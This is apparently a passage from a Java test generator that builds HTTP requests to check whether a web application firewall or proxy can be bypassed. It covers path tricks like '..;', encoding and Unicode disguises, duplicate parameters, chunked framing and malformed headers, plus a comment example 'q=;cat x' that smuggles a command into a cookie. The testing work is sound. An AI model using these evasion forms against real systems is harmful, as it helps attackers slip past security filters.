                "X-HTTP-Method-Override", "Accept-Language", "Accept", "If-None-Match", "Origin", "Referer", "From",
                "X-Custom-Header", "Authorization")) {
            values(g, name, v -> RawHttp.request("GET", "/").header(name, v).build());
        }
        // The proxy sets these itself; what the client sent may be replaced, so no twin.
        for (String name : List.of("X-Forwarded-Host", "X-Request-ID", "X-Forwarded-Proto", "X-Forwarded-Port")) {
            values(g, name, v -> RawHttp.request("GET", "/").header(name, v).build(), null);
        }
        values(g, "Authorization: Basic (payload as user name)", v -> RawHttp.request("GET", "/")
                .header("Authorization", "Basic " + java.util.Base64.getEncoder().encodeToString(utf8(v + ":pw"))).build());
        values(g, "Authorization: Bearer", v -> RawHttp.request("GET", "/").header("Authorization", "Bearer " + v).build());
        // A raw ';' ends a cookie for every cookie parser (Jetty, Tomcat, Bulwark): `q=;cat x` is the
        // cookie q="" and an invalid cookie named "cat x" everywhere. Only an application that reads
        // the raw header and splits it its own way would differ; the README lists that as a known
        // gap, so the canary that carries a ';' is not sent raw (the quoted forms below cover it).
        for (String canary : CANARIES) {
            if (canary.indexOf(';') < 0) {
                cases.add(new Case(g, "Cookie (raw value)", Kind.ATTACK, Probe.value(canary),
                        RawHttp.request("GET", "/").header("Cookie", "q=" + canary).build()));
            }
        }
        values(g, "Cookie (quoted value)", v -> RawHttp.request("GET", "/").header("Cookie", "a=1; q=\"" + v.replace("\"", "") + "\"").build());
        values(g, "Cookie (quoted value, then a cookie)", v -> RawHttp.request("GET", "/")
                .header("Cookie", "q=\"" + v.replace("\"", "") + "\"; b=2").build());
        values(g, "Cookie (quoted value, spaces around it)", v -> RawHttp.request("GET", "/")
                .header("Cookie", "a=1; q = \" " + v.replace("\"", "") + " \" ; b=2").build());
        values(g, "Cookie (unclosed quote)", v -> RawHttp.request("GET", "/")
                .header("Cookie", "a=1; q=\"" + v.replace("\"", "")).build());
        values(g, "Forwarded for=\"...\"", v -> RawHttp.request("GET", "/").header("Forwarded", "for=\"" + v.replace("\"", "") + "\"").build());
        values(g, "Forwarded, payload as a parameter", v -> RawHttp.request("GET", "/").header("Forwarded", "for=1.2.3.4;by=" + v).build());
        values(g, "X-Forwarded-For tail", v -> RawHttp.request("GET", "/").header("X-Forwarded-For", "1.2.3.4, " + v).build());
        values(g, "X-Forwarded-For twice", v -> RawHttp.request("GET", "/").header("X-Forwarded-For", "1.2.3.4")
                .header("X-Forwarded-For", v).build(), null);
        values(g, "Accept-Language q-list", v -> RawHttp.request("GET", "/").header("Accept-Language", "en-US,en;q=0.9," + v).build());
        values(g, "same custom header twice, payload second", v -> RawHttp.request("GET", "/").header("X-Api-Version", "1")
                .header("X-Api-Version", v).build());
        values(g, "header value after a tab", v -> RawHttp.request("GET", "/").rawHeader(utf8("X-Api-Version:\t" + v)).build());
        values(g, "folded header continuation", v -> RawHttp.request("GET", "/").rawHeader(utf8("X-Api-Version: 1\r\n " + v)).build(),
                RawHttp.request("GET", "/").header("X-Api-Version", HARMLESS).build());
        values(g, "payload after 120 headers", v -> {
            RawHttp.Builder b = RawHttp.request("GET", "/");
            for (int i = 0; i < 120; i++) {
                b.header("X-Filler-" + i, "1");
            }
            return b.header("X-Api-Version", v).build();
        }, null); // more headers than the default limit: no well-formed twin
    }

    /** Class 11: path segments the container resolves differently (..;, path parameters, encoded dots). */
    private void paths() {
        String g = "path";
        for (String p : PATHS) {
            int slash = p.indexOf('/', 1);
            String first = slash < 0 ? p.substring(1) : p.substring(1, slash);
            String rest = slash < 0 ? "" : p.substring(slash);
            java.util.Set<String> targets = new java.util.LinkedHashSet<>(List.of(
                    p,
                    "/x/..;" + p, "/x/..;x=1" + p, "/x/..%3b" + p, "/x/..%3B" + p, "/x/%2e%2e;" + p, "/x/%2E%2E;" + p,
                    "/x/.%2e;" + p, "/x/%2e%2e" + p, "/x/.%2e" + p, "/x/y/..;/..;" + p, "/x;/..;" + p,
                    "/" + first + ";x=1" + rest, "/" + first + ";" + rest, "/" + first + ";jsessionid=A1" + rest,
                    p + ";x=1", p + ";", "/" + first + "%3bx=1" + rest, "//" + first + "/" + rest.replaceFirst("^/", "/"),
                    "/./" + first + rest, "/x/../" + first + rest, "/" + pct(first) + rest,
                    "/" + first + rest.replace("/", "%2f"), "/" + first + rest.replace("/", "\\"),
                    p.toUpperCase(java.util.Locale.ROOT), "/" + first + ";/..;/" + first + rest));
            for (String t : targets) {
                cases.add(new Case(g, "GET " + t, Kind.ATTACK, Probe.path(p), get(t)));
            }
        }
        twin(g, "plain path", get("/static/app.js"), Probe.path("/static/app.js"));
        twin(g, "nested path", get("/static/css/site.css?v=3"), Probe.path("/static/css/site.css"));
    }

    /** Class 13: bytes in the request line that are not valid UTF-8, and other request-target forms. */
    private void requestLine() {
        String g = "request-line";
        byte[] twin = get("/caf%C3%A9?q=" + pct(HARMLESS));
        for (byte[] bad : List.of(new byte[] {(byte) 0xff}, new byte[] {(byte) 0x80}, new byte[] {(byte) 0xc0},
                new byte[] {(byte) 0xc3}, new byte[] {(byte) 0xed, (byte) 0xa0, (byte) 0x80},
                new byte[] {(byte) 0xf4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, new byte[] {(byte) 0xc0, (byte) 0xbf})) {
            String hex = pct(bad);
            values(g, "path /a<" + hex + ">q=... (no ?)",
                    v -> RawHttp.request("GET", concat(utf8("/a"), bad, utf8("q=" + pct(v)))).build(), twin);
            values(g, "path /a<" + hex + ">?q=...",
                    v -> RawHttp.request("GET", concat(utf8("/a"), bad, utf8("?q=" + pct(v)))).build(), twin);
            values(g, "query ?x=<" + hex + ">&q=...",
                    v -> RawHttp.request("GET", concat(utf8("/a?x="), bad, utf8("&q=" + pct(v)))).build(), twin);
        }
        values(g, "raw UTF-8 in the path then ?q=", v -> RawHttp.request("GET", concat(utf8("/caf\u00e9?q="), utf8(pct(v)))).build(), twin);
        values(g, "raw (unencoded) payload characters in the query", v -> get("/a?q=" + Encode.pctMinimal(v)), twin);
        values(g, "absolute-form target", v -> get("http://app.test/a?q=" + pct(v)), twin);
        values(g, "fragment before the argument", v -> get("/a?x=1#&q=" + pct(v)), twin);
        values(g, "encoded ? in the path", v -> get("/a%3Fq=" + pct(v)), twin);
        values(g, "semicolon separator", v -> get("/a?x=1;q=" + pct(v)), twin);
        values(g, "payload in a REST path segment", v -> get("/users/" + pct(v)), get("/users/" + pct(HARMLESS)));
    }

    /** Full-width and other compatibility forms that NFKC folds to ASCII. */
    private void unicode() {
        String g = "unicode";
        String twinValue = "\uff48\uff45\uff4c\uff4c\uff4f\u3000\uff57\uff4f\uff52\uff4c\uff44 \u6771\u4eac\u90fd";
        String marker = "hello world";
        for (var disguise : List.<java.util.Map.Entry<String, UnaryOperator<String>>>of(
                java.util.Map.entry("full-width", Encode::fullWidth),
                java.util.Map.entry("full-width punctuation", Encode::fullWidthPunctuation))) {
            String d = disguise.getKey();
            UnaryOperator<String> f = disguise.getValue();
            values(g, d + " in the query", f, v -> get("/search?q=" + pct(v)), get("/search?q=" + pct(twinValue)), marker);
            values(g, d + " in a form", f, DifferentialCases::formPost, formPost(twinValue), marker);
            values(g, d + " in JSON", f, DifferentialCases::jsonPost, jsonPost(twinValue), marker);
            values(g, d + " in JSON \\u escapes", f, v -> post("application/json", "{\"q\":\"" + Encode.jsonEscapedAll(v) + "\"}"),
                    jsonPost(twinValue), marker);
            values(g, d + " in multipart", f, v -> multipartPost(new Multipart().field("q", v)),
                    multipartPost(new Multipart().field("q", twinValue)), marker);
        }
    }

    /** Argument ordering, duplication, separators, malformed escapes, methods and chunked framing. */
    private void parameters() {
        String g = "parameters";
        byte[] formTwin = formPost(HARMLESS);
        String form = "application/x-www-form-urlencoded";
        values(g, "query q twice, payload second", v -> get("/a?q=hello&q=" + pct(v)));
        values(g, "query q twice, payload first", v -> get("/a?q=" + pct(v) + "&q=hello"));
        values(g, "query and body both q", v -> RawHttp.request("POST", "/a?q=hello").header("Content-Type", form)
                .body("q=" + form(v)).build());
        for (String bad : List.of("%zz", "%", "%2", "%C0%AF", "%u0027", "%%31")) {
            values(g, "form: bad escape " + bad + " before", v -> post(form, "a=" + bad + "&q=" + form(v)), formTwin);
            values(g, "query: bad escape " + bad + " before", v -> get("/a?a=" + bad + "&q=" + pct(v)), get("/a?a=1&q=" + pct(HARMLESS)));
        }
        values(g, "form: ; separator", v -> post(form, "a=1;q=" + form(v)), formTwin);
        values(g, "form: name only", v -> post(form, form(v)), formTwin);
        values(g, "form: q[] name", v -> post(form, "q%5B%5D=" + form(v)));
        values(g, "form: empty pairs", v -> post(form, "&&=&q=" + form(v) + "&&"), formTwin);
        values(g, "form: raw unencoded payload", v -> post(form, "q=" + v), formTwin);
        values(g, "query: 1001 arguments then q", v -> get("/a?" + "a=1&".repeat(1001) + "q=" + pct(v)), get("/a?q=" + pct(HARMLESS)));
        values(g, "form: 1.2 MiB padding then q", v -> post(form, "pad=" + "a".repeat(1_200_000) + "&q=" + form(v)), formTwin);
        for (String method : List.of("PUT", "PATCH", "DELETE", "GET", "OPTIONS")) {
            values(g, method + " with a form body", v -> RawHttp.request(method, "/submit").header("Content-Type", form)
                    .body("q=" + form(v)).build());
            values(g, method + " with a json body", v -> RawHttp.request(method, "/submit").header("Content-Type", "application/json")
                    .body("{\"q\":\"" + json(v) + "\"}").build());
        }
        values(g, "chunked form", v -> post(form).header("Transfer-Encoding", "chunked").noAutoLength()
                .body(RawHttp.chunked(utf8("q=" + form(v)), 3)).build());
        values(g, "chunked json", v -> post("application/json").header("Transfer-Encoding", "chunked").noAutoLength()
                .body(RawHttp.chunked(utf8("{\"q\":\"" + json(v) + "\"}"), 4)).build());
        values(g, "payload in a chunked trailer", v -> post(form).header("Transfer-Encoding", "chunked")
                .header("Trailer", "X-Trailer").noAutoLength()
                .body(RawHttp.chunked(utf8("a=1"), 3, "X-Trailer: " + v)).build(), null); // the proxy drops trailers
        values(g, "chunk extension", v -> post(form).header("Transfer-Encoding", "chunked").noAutoLength()
                .body(concat(utf8("3;x=\"" + v.replace("\"", "") + "\"\r\na=1\r\n"), RawHttp.chunked(utf8("&q=" + form(v)), 4))).build());
    }

    /** The HTTP message itself: bare-LF line ends, odd header syntax around the framing headers. */
    private void messageFraming() {
        String g = "message-framing";
        String form = "application/x-www-form-urlencoded";
        values(g, "LF-only head, form body", v -> post(form).eol("\n").body("q=" + form(v)).build(), formPost(HARMLESS));
        values(g, "LF-only head, payload in a header", v -> RawHttp.request("GET", "/").eol("\n").header("X-Api-Version", v).build(),
                RawHttp.request("GET", "/").header("X-Api-Version", HARMLESS).build());
        values(g, "LF-only head, query", v -> RawHttp.request("GET", "/a?q=" + pct(v)).eol("\n").build(),
                get("/a?q=" + pct(HARMLESS)));
        values(g, "Content-Type with a space before the colon", v -> RawHttp.request("POST", "/submit")
                .rawHeader(utf8("Content-Type : " + form)).body("q=" + form(v)).build(), formPost(HARMLESS));
        values(g, "Content-Type value after a tab", v -> RawHttp.request("POST", "/submit")
                .rawHeader(utf8("Content-Type:\t" + form)).body("q=" + form(v)).build(), formPost(HARMLESS));
        values(g, "Transfer-Encoding: Chunked (case)", v -> post(form).header("Transfer-Encoding", "Chunked").noAutoLength()
                .body(RawHttp.chunked(utf8("q=" + form(v)), 5)).build(), formPost(HARMLESS));
        values(g, "HTTP/1.0 with a body", v -> {
            byte[] body = utf8("q=" + form(v));
            return concat(utf8("POST /submit HTTP/1.0\r\nContent-Type: " + form + "\r\nContent-Length: " + body.length + "\r\n\r\n"), body);
        }, formPost(HARMLESS));
    }
}
